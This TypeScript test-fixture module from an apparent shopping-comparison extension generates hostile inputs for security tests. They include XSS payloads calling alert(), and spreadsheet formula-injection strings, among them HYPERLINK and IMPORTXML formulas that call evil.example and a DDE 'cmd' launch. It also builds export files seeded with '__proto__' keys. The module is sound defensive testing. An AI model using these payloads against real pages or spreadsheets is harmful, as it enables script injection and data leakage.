import { readFileSync, readdirSync } from 'node:fs';
import { readFile, readdir } from 'node:fs/promises';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import * as z from 'zod/mini';
import { sharedPath, withShared } from '../shared';
import type { HandedFile } from './hand-over';

const LIKE_MARKUP = /[<>]|javascript:|\bon\w+\s*=/i;

const fixturesSchema = z.object({ default: z.array(z.object({ payload: z.string() })) });

/** Titles alike would be groups of one offer. */
const GOODS = ['mug', 'lamp', 'sock', 'chair', 'kettle', 'rope', 'tent', 'brush', 'clock', 'glove'];
/** Own texts for where the shared collections are missing: each kind of them, of several goods. */
const OWN_MARKUP = GOODS.flatMap((goods, n) => [
  `<img src=x onerror=alert(${n})> ${goods}`,
  `${goods} <svg onload=alert(${n})>`,
  `"><script>alert(${n})</script> ${goods} case`,
  `<a href="javascript:alert(${n})">${goods} bag</a>`,
  `<b onmouseover=alert(${n})>small ${goods}</b>`,
  `<iframe srcdoc="<script>alert(${n})</script>"> ${goods} toy`,
]);

const OWN_FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  ' =1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  ';=1+1',
  ',=1+1',
  '",=1+1,"',
  `=HYPERLINK("https://evil.example/?"&1+1,"a")`,
  "=cmd|' /C calc'!A0",
  '=IMPORTXML("https://evil.example/","//a")',
];

/**
 * Texts that would be elements, or would run, where somebody took them for markup: DOMPurify's own
 * fixtures, the naughty strings and drawings with scripts. Their order is always the same.
 */
export async function xssStrings(): Promise<string[]> {
  if (withShared.skip) return OWN_MARKUP;
  const file = pathToFileURL(sharedPath('data/hostile/xss-dompurify/expect.mjs')).href;
  const fixtures = fixturesSchema.parse(await import(/* @vite-ignore */ file));
  const naughty = z
    .array(z.string())
    .parse(JSON.parse(readFileSync(sharedPath('data/hostile/blns/blns.json'), 'utf8')));
  const folder = sharedPath('data/hostile/svg-xss');
  const drawings = readdirSync(folder)
    .filter((name) => /\.(?:svg|xht|xml|htm)$/.test(name))
    .map((name) => readFileSync(`${folder}/${name}`, 'utf8'));
  const all = [...fixtures.default.map(({ payload }) => payload), ...naughty, ...drawings];
  return [...new Set(all.filter((text) => LIKE_MARKUP.test(text)))];
}

/** Texts that a spreadsheet would take for formulas. */
export function formulaStrings(): string[] {
  if (withShared.skip) return OWN_FORMULAS;
  const text = readFileSync(sharedPath('data/hostile/csv-injection/strings.json'), 'utf8');
  return z.array(z.string()).parse(JSON.parse(text));
}

/** A file of all that is kept, as `utils/core/history/transfer.ts` takes it, with a test's texts and numbers. */

export interface HostileFile {
  texts: readonly string[];
  /** Entries and pins. */
  count: number;
  /** Above the usual fields of a row. */
  row?: object;
  /** Above the usual fields of a compared offer. */
  compared?: object;
}

export function hostileFile({ texts, count, row, compared }: HostileFile): string {
  let turn = 0;
  const next = () => texts[turn++ % texts.length] ?? '';
  const now = Date.now();
  const range = { low: 485, high: 520 };

  const makeCompared = (at: number) => {
    const offer = {
      provider: next(),
      offerId: at % 2 === 0 ? String(700_000_000_001 + at) : next(),
      title: next(),
      titleTranslated: next(),
      imageUrl: next(),
      detailUrl: next(),
      promotionUrl: next(),
      price: 1250,
      priceBasis: 'list',
      unit: next(),
      skus: [{ name: next(), price: 1250 }],
      seller: { id: next(), name: next() },
      place: next(),
      listedAt: next(),
      badges: [next(), '__proto__', 'constructor'],
    };
    return {
      key: `1688 ${offer.offerId}`,
      offer,
      hasDetails: false,
      unitPrice: {
        perPiece: 1250,
        perUnit: 1250,
        piecesPerUnit: 1,
        pieces: 200,
        basis: 'list',
        isListOnly: true,
        corrections: [],
      },
      landed: { ...range, currency: 'USD', lines: [], isAtLeast: false, estimated: [next()] },
      group: next(),
      mark: { rule: 'price-top-up', word: next() },
      notes: [{ rule: 'freight-top-up', word: next() }],
      ...compared,
    };
  };
  const makeRow = (at: number) => ({
    id: `${at} ${next()}`,
    at: now - at * 1000,
    pageUrl: 'https://shop.test/"><script>alert(1)</script>',
    pageTitle: next(),
    host: next(),
    service: 'cross-border',
    offers: 2,
    best: { offerId: next(), title: next(), seller: next(), detailUrl: next(), perPiece: 1250 },
    currency: 'USD',
    sourcePrice: { amount: '12.99', currency: 'USD' },
    verdict: 'worth',
    ...row,
  });
  const each = <T>(make: (at: number) => T) => Array.from({ length: count }, (_, at) => make(at));
  return JSON.stringify({
    format: 'find-on-1688',
    version: 1,
    history: each((at) => ({ row: makeRow(at), offers: [makeCompared(at), makeCompared(at + 1)] })),
    pins: each((at) => ({
      at: now,
      compared: makeCompared(at),
      page: { title: next() },
      note: next().slice(0, 999),
    })),
    cleared: each((at) => `${at} ${next()}`.slice(0, 99)),
  });
}

/** Types by the end of a name; whatever else there is has no type, as on most computers. */
const TYPES: Readonly<Record<string, string>> = {
  bmp: 'image/bmp',
  gif: 'image/gif',
  htm: 'text/html',
  ico: 'image/x-icon',
  jpeg: 'image/jpeg',
  jpg: 'image/jpeg',
  pbm: 'image/x-portable-bitmap',
  png: 'image/png',
  svg: 'image/svg+xml',
  svgz: 'image/svg+xml',
  tiff: 'image/tiff',
  webp: 'image/webp',
  xhtml: 'application/xhtml+xml',
  xml: 'text/xml',
};

/** What says where the files come from is none of them. */
const ABOUT = /^(LICENSE.*|SOURCE\.txt|README.*|.*\.LICENSE|.*\.README|.*\.toml)$/;

/**
 * The files of one folder of broken and hostile material, with their paths in it for names.
 * @param ending of the names; absent: all
 */
export async function hostileFiles(folder: string, ending = ''): Promise<HandedFile[]> {
  const root = sharedPath('data', 'hostile', folder);
  const entries = await readdir(root, { recursive: true, withFileTypes: true });
  const names = entries
    .filter((entry) => entry.isFile() && !ABOUT.test(entry.name) && entry.name.endsWith(ending))
    .map(({ parentPath, name }) => path.relative(root, path.join(parentPath, name)))
    .toSorted();
  return Promise.all(
    names.map(async (name) => ({
      name,
      type: TYPES[path.extname(name).slice(1)] ?? '',
      bytes: await readFile(path.join(root, name)),
    })),
  );
}
